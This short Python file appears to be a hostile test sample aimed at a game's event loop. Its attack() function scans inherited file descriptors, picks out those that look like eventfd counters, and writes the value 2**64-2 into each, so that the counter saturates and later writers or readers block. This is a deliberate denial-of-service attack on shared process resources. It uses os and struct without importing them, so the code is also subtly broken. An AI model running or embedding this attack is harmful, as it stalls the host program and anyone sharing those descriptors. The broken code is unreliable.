"""Fills the counter that wakes the game's loop, so that the next to add to it waits."""

FULL = "answers", "descriptors"
JUDGED = "game"
ALONE = "the counter is there for it to add to: what is attacked is whoever else adds or reads"


def attack():
    import stat

    for fd in range(4, 64):
        try:
            if stat.S_IFMT(os.fstat(fd).st_mode) == 0:
                os.write(fd, struct.pack("Q", 2**64 - 2))
        except OSError:
            continue
